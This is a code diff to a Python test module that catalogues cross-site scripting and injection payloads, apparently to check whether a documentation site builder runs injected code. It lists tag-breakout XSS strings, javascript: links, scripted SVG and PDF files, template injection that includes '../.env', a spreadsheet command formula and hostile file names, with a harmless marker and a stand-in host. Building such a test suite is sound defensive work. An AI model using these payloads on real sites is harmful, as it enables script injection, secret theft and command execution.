@@ -1,4 +1,8 @@
-"""What people have tried to make a page run. `RUN` stands for the code, `ELSEWHERE` for a host."""
+"""What people have tried to make a page run, by the place where they write it.
+
+`RUN` stands for the code, `ELSEWHERE` for a host. `attack.py` makes a hub of all of them. A new
+kind of page (a calendar, a feed) shows some of the TEXTS: it is one more line in `attack.PAGES`.
+"""
 
 RUN = "window.ran=1"
 ELSEWHERE = "https://elsewhere.example"
@@ -106,8 +110,123 @@ _EXTENSIONS = {
     "piece of the engine": '<span data-piece="0-0"></span>',
 }
 
-BODIES: dict[str, str] = {
-    name: payload.replace("RUN", RUN).replace("ELSEWHERE", ELSEWHERE)
-    for name, payload in {**_TAGS, **_LINKS, **_EXTENSIONS}.items()
+_GADGETS = {
+    "settings of the theme": (
+        '<script id="__config" type="application/json">{"base":"ELSEWHERE/","features":'
+        '["navigation.instant","search.suggest"],"search":"ELSEWHERE/worker.js",'
+        '"translations":{},"version":{"provider":"mike"}}</script>'
+    ),
+    "diagram": '<pre class="mermaid"><code>graph LR; A["<img src=x onerror=RUN>"]</code></pre>',
+    "diagram in a fence": "```mermaid\ngraph LR; A-->B\n```",
+    "program": '<div class="pyodide" data-md-component="x"><pre><code>RUN</code></pre></div>',
+    "program by attributes": "``` { .pyodide .python }\nimport js; js.window.ran = 1\n```",
+    "lightbox": '<a class="glightbox" href="#"><img src="x.png"></a>',
+    "tooltip": '<a href="#" title="<img src=x onerror=RUN>" class="md-button">x</a>',
+    "reader of another host": '<a href="#" ping="ELSEWHERE/ping">x</a>',
+    "form to elsewhere": (
+        '<form action="ELSEWHERE/" id="f"><input name="q"></form><button form="f">x</button>'
+    ),
+    "worker": "<script>new Worker('data:text/javascript,0');RUN</script>",
+    "module from data": '<script type="module" src="data:text/javascript,RUN"></script>',
+    "preload": '<link rel="preload" as="script" href="ELSEWHERE/x.js">',
+    "font": "<style>@font-face{font-family:x;src:url(ELSEWHERE/x)}p{font-family:x}</style>x",
 }
+
+_TEXTS = {
+    "script": "<script>RUN</script>",
+    "end of the title": "</title><script>RUN</script>",
+    "end of a script": "</script><script>RUN</script>",
+    "end of a style": "</style><img src=x onerror=RUN>",
+    "end of a text box": "</textarea><img src=x onerror=RUN>",
+    "image": "<img src=x onerror=RUN>",
+    "image from elsewhere": '<img src="ELSEWHERE/x.png">',
+    "svg": "<svg/onload=RUN>",
+    "frame": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
+    "details": "<details open ontoggle=RUN>x</details>",
+    "link as a tag": '<a href="javascript:RUN">x</a>',
+    "out of an attribute": '" onmouseover="RUN" onfocus="RUN" x="',
+    "out of an attribute, one quote": "' onmouseover='RUN' onfocus='RUN' x='",
+    "out of an attribute with a tag": '"><img src=x onerror=RUN>',
+    "out of a comment": "--><img src=x onerror=RUN><!--",
+    "references": "&lt;img src=x onerror=RUN&gt;",
+    "references twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
+    "link of Markdown": "[x](javascript:RUN)",
+    "out of a link of Markdown": "](javascript:RUN) <img src=x onerror=RUN>",
+    "attributes of Markdown": "x {: onmouseover=RUN onclick=RUN }",
+    "template": "{{ ''.__class__.__mro__ }}{% raw %}<img src=x onerror=RUN>",
+    "out of JSON": '"}]};RUN;//</script><script>RUN</script>',
+    "out of JavaScript": "\\u2028';RUN;//${RUN}`",
+    "line ends of JavaScript": "\u2028RUN\u2029<img src=x onerror=RUN>",
+}
+
+_LISTS = {
+    "words in a list": "{{ search_box(placeholder='\"><img src=x onerror=RUN>') }}",
+    "a term that there is not": "{{ assets(stage='<img src=x onerror=RUN>') }}",
+    "a list that there is not": "{{ nothing('<script>RUN</script>') }}",
+    "text": "{{ '<img src=x onerror=RUN>' }}",
+    "text called safe": "{{ '<img src=x onerror=RUN>' | safe }}",
+    "a file": "{% include '../.env' %}<img src=x onerror=RUN>",
+}
+
+_HTML = "<!doctype html><script>RUN</script><img src=x onerror=RUN>"
+_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
+
+_FILES = {
+    "script.svg": f"{_SVG}><script>RUN</script></svg>",
+    "onload.svg": f'{_SVG} onload="RUN"/>',
+    "page.svg": (
+        f"{_SVG}><foreignObject><p {_XHTML}><img src='x' onerror='RUN'/></p></foreignObject></svg>"
+    ),
+    "animation.svg": f'{_SVG}><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
+    "elsewhere.svg": f'{_SVG}><image href="ELSEWHERE/x.png"/></svg>',
+    "style.svg": f"{_SVG}><style>@import 'ELSEWHERE/x.css';</style></svg>",
+    "entity.svg": f'<!DOCTYPE svg [<!ENTITY a "<script>RUN</script>">]>{_SVG}>&a;</svg>',
+    "prefix.svg": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>RUN</s:script></s:svg>',
+    "page.html": _HTML,
+    "page.htm": _HTML,
+    "page.xhtml": f"<html {_XHTML}><script>RUN</script></html>",
+    "page.xml": f"<html {_XHTML}><script>RUN</script></html>",
+    "page.xsl": f"<html {_XHTML}><script>RUN</script></html>",
+    "page.mht": f"MIME-Version: 1.0\nContent-Type: text/html\n\n{_HTML}",
+    "renamed.pdf": _HTML,
+    "renamed.png": _HTML,
+    "renamed.txt": _HTML,
+    "renamed.csv": _HTML,
+    "renamed.json": _HTML,
+    "cells.csv": "=cmd|'/c calc'!A1,\"<script>RUN</script>\",@SUM(1),-1+1\n",
+    "action.pdf": (
+        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(RUN)>>>>endobj\n"
+        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n"
+    ),
+}
+
+FILE_NAMES = (
+    'x" onmouseover="window.ran=1" y=".pdf',
+    "<img src=x onerror=window.ran=1>.pdf",
+    "' onclick='window.ran=1.pdf",
+    "javascript:window.ran=1.pdf",
+    "](javascript:window.ran=1).pdf",
+)
+"""Names of attached files."""
+
+
+def _filled(payloads: dict[str, str]) -> dict[str, str]:
+    return {
+        name: payload.replace("RUN", RUN).replace("ELSEWHERE", ELSEWHERE)
+        for name, payload in payloads.items()
+    }
+
+
+BODIES = _filled({**_TAGS, **_LINKS, **_EXTENSIONS, **_GADGETS})
 """Name → Markdown of a body."""
+
+TEXTS = _filled(_TEXTS)
+"""Name → text of a title, a summary, a name or any other value in YAML."""
+
+LISTS = _filled(_LISTS)
+"""Name → live list of a page in `docs/`."""
+
+FILES = _filled(_FILES)
+"""Name of an attached file → what it holds."""
